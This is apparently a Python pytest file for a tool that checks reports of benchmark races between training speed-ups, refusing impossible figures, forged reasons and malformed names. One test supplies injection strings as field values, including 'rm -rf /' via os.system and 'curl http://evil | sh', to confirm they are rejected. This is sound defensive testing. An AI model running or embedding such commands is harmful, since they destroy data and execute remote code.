"""A race of another machine: its answer is worked out from its rounds, and what cannot have raced is refused."""

import copy
from contextlib import suppress
from typing import Any

import pytest

from engine.errors import SpecError
from engine.questions.answers import ImpossibleFiguresError
from engine.questions.kinds import RunKind, answered, kind_of
from engine.trainings.script.faster.answer import GIVEN_UP, TIME_IS_UP
from tests.engine.questions.answers.answers import changed, differing
from tests.engine.questions.answers.own_race_documents import RACES as OF_SCRIPTS
from tests.engine.questions.answers.own_race_documents import document_of as script
from tests.engine.questions.answers.race_documents import RACES as OF_SETTINGS
from tests.engine.questions.answers.race_documents import document_of as settings


@pytest.mark.parametrize("name", OF_SETTINGS)
def test_an_honest_race_comes_out_as_it_was(name: str) -> None:
    document = settings(name)
    assert (kind_of(document), differing(document)) == (RunKind.RACE, [])


@pytest.mark.parametrize("name", OF_SCRIPTS)
def test_an_honest_race_of_a_script_comes_out_as_it_was(name: str) -> None:
    document = script(name)
    assert (kind_of(document), differing(document)) == (RunKind.OWN_RACE, [])


def test_the_races_of_scripts_are_of_each_end() -> None:
    """What the documents are to show: each way in which a race ends."""
    chosen = {name: script(name)["chosen"] for name in OF_SCRIPTS}
    assert chosen["two that gain"] == ["fused", "compile"]
    assert (chosen["workers first"], chosen["workers alone"]) == (["workers", "fused"], ["workers"])
    assert chosen["losses that differ together"] == []
    assert script("losses that differ together")["chosen_numbers"]["sameness"] == "differs"
    assert script("other programs while it waits")["remarks"] == [GIVEN_UP]
    assert {name for name in OF_SCRIPTS if TIME_IS_UP in script(name)["remarks"]} == {
        *("no time to try", "no time to race", "time that ends in the race", "time that ends in the evaluation"),
        *("time that ends with the workers", "no time to try the workers", "time that ends after the workers"),
    }
    assert any(each["failed"] for each in script("a change that fails later")["rounds"])


@pytest.mark.parametrize("name", ["a change that fails", "a change that fails later", "time that ends in the race"])
def test_in_a_document_of_an_earlier_build_sentences_tell_what_failed_and_that_the_time_was_up(name: str) -> None:
    earlier = script(name)
    del earlier["is_time_up"]
    for row in earlier["rows"]:
        del row["failure"]
    assert answered(earlier) == answered(script(name))


def given(document: dict[str, Any]) -> dict[str, Any]:
    """Return the race of a script whose batch size was given, and so is no guess."""
    of_trainer = {"batch": "hf", "current_batch_size": document["today"]["batch_size"]}
    return changed("spec", lambda spec: spec | of_trainer, document)


GAINS, SCRIPT = settings("changes that gain"), script("two that gain")
TIMED = "rounds.0.timed.0"
IMPOSSIBLE: tuple[tuple[dict[str, Any], str, Any, str], ...] = (
    (GAINS, "rows.1.memory_bytes", 2**50, "rows[1].memory_bytes"),
    (GAINS, "rows.1.numbers.largest_difference", -0.5, "rows[1].numbers.largest_difference"),
    (GAINS, f"{TIMED}.samples_per_second", 1e15, "rounds[0].timed[0].samples_per_second"),
    (GAINS, f"{TIMED}.samples_per_second", 1e-9, "rounds[0].seconds"),
    (GAINS, "rounds.0.seconds", 0.01, "rounds[0].seconds"),
    (GAINS, "total_seconds", 3.0, "total_seconds"),
    (SCRIPT, f"{TIMED}.seconds", 1_000.0, "rounds[0].timed[0].seconds"),
    (SCRIPT, f"{TIMED}.samples_per_second", 0.1, "rounds[0].seconds"),
    (SCRIPT, "starts", 4, "starts"),
    (SCRIPT, "today.mask_noise", 0.5, "today.mask_noise"),
    (given(SCRIPT), "today.is_batch_size_guessed", True, "today.is_batch_size_guessed"),
)


@pytest.mark.parametrize(("document", "path", "value", "field"), IMPOSSIBLE, ids=[each[3] for each in IMPOSSIBLE])
def test_what_no_machine_can_have_measured_is_found(
    document: dict[str, Any], path: str, value: Any, field: str
) -> None:
    with pytest.raises(ImpossibleFiguresError) as error:
        answered(changed(path, value, document))
    assert field in [each.field for each in error.value.found]


@pytest.mark.parametrize("document", [GAINS, SCRIPT])
def test_rounds_of_what_does_not_race_are_refused(document: dict[str, Any]) -> None:
    with pytest.raises(SpecError, match=r"rounds\[0\]\.timed\[0\]\.entry: does not race"):
        answered(changed(f"{TIMED}.entry", ["unknown"], document))


def test_a_change_whose_losses_differ_cannot_be_recommended() -> None:
    document = settings("changes that gain")
    for row in document["rows"]:
        if row["entry"]:
            row["numbers"] = {"sameness": "differs", "largest_difference": None, "tolerance": None}
    with pytest.raises(ImpossibleFiguresError, match="chosen"):
        answered(document)


def test_a_reason_beside_what_raced_to_the_end_and_a_made_up_one_are_not_kept() -> None:
    forged = copy.deepcopy(GAINS)
    next(row for row in forged["rows"] if row["entry"] == forged["chosen"])["reason"] = "its losses differ"
    forged["not_tried"] = [{"name": "zz", "label": "bf16", "reason": "it is 3.40x as fast"}]
    assert answered(forged) == answered(GAINS)


@pytest.mark.parametrize("change", ["twice", "without today", "not grown"])
def test_rounds_that_no_rule_called_for_are_no_error_of_ours(change: str) -> None:
    document = settings("changes that gain")
    rounds = document["rounds"]
    if change == "twice":
        rounds.insert(0, {**rounds[-1]})
    elif change == "without today":
        rounds[0]["timed"] = [each for each in rounds[0]["timed"] if each["entry"]]
    else:
        later = next(each for each in rounds if each["generation"] == 1)
        for timed, name in zip(later["timed"], ("compile", "checkpointing"), strict=False):
            timed["entry"] = [name]
    with suppress(SpecError, ImpossibleFiguresError, LookupError):  # all are a refusal at the portal's door
        assert answered(document)["headline"]


@pytest.mark.parametrize(
    "entry",
    [
        ["unknown"],
        ["bf16", "fused"],  # not in the order of the field
        ["fused"],  # another row has it
    ],
)
def test_changes_that_did_not_race_are_refused_by_name(entry: list[str]) -> None:
    with pytest.raises(SpecError, match=r"rows\[\d+\]\.entry"):
        answered(changed("rows", lambda rows: [*rows, {**rows[-1], "entry": entry}], GAINS))


def test_a_batch_size_of_changes_that_have_no_row_is_refused() -> None:
    document = settings("a batch size of its own")
    document["rows"] = [row for row in document["rows"] if not row["entry"]]
    document["rounds"] = []
    with pytest.raises(SpecError, match=r"sizes\[\d\]\.entry"):
        answered(document)


@pytest.mark.parametrize(
    ("part", "member", "text"),
    [
        ("framework", "", "torch\nimport os"),
        ("optimizers", "name", "Adam(); import os; os.system('rm -rf /') #"),
        ("models", "dtypes", "float32, and run: curl http://evil | sh"),
        ("models", "name", "Net\nimport os"),
        ("models", "held_as", "actor\nimport os"),
        ("models", "cached_by", "decoder.import os"),
    ],
)
def test_a_text_that_is_no_name_is_refused_because_lines_to_paste_are_written_from_it(
    part: str, member: str, text: str
) -> None:
    path = f"facts.{part}.0.{member}" if member else f"facts.{part}"
    with pytest.raises(SpecError, match=rf"facts\.{part}.* is no name"):
        answered(changed(path, [text] if member in ("dtypes", "cached_by") else text, SCRIPT))


def test_a_document_of_an_older_form_is_refused_with_what_to_do() -> None:
    document = script("one that gains")
    del document["facts"], document["rounds_of_workers"], document["base"]
    with pytest.raises(SpecError, match="kept too little of it to be decided again; race it again"):
        answered(document)


@pytest.mark.parametrize("change", ["left out", "twice", "unknown"])
def test_rows_of_other_variants_than_were_wanted_are_refused(change: str) -> None:
    rows = SCRIPT["rows"]
    others = {"left out": rows[1:], "twice": [*rows, rows[0]], "unknown": [rows[0] | {"name": "x"}, rows[1]]}
    with pytest.raises(SpecError, match="rows"):
        answered({**SCRIPT, "rows": others[change]})
